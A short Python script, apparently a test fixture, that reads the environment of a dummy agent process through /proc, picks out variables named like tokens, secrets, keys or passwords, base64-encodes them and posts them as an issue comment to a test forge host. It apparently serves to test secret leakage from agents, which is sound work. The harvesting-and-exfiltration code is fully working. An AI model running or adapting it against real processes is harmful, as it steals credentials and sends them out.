# Looks into the environments of other processes until one tells something, at most ten times; then comments on the forge.
# Of other processes, only the test's dummy agent is touched.
import base64
import glob
import os
import time
import urllib.request

WORDS = (b"TOKEN", b"SECRET", b"KEY", b"PASSWORD")


def look():
    for path in glob.glob("/proc/[0-9]*/environ"):
        if path.split("/")[2] != os.environ["AGENT_PID"]:
            continue
        with open(path, "rb") as file:
            yield from (v for v in file.read().split(b"\0") if any(word in v.split(b"=")[0].upper() for word in WORDS))


for _ in range(10):
    found = b"\n".join(look())
    if found:
        url = f"http://{os.environ['FORGE']}/repos/o/r/issues/1/comments"
        urllib.request.urlopen(urllib.request.Request(url, base64.b64encode(found), method="POST"), timeout=10).close()
        break
    time.sleep(0.2)
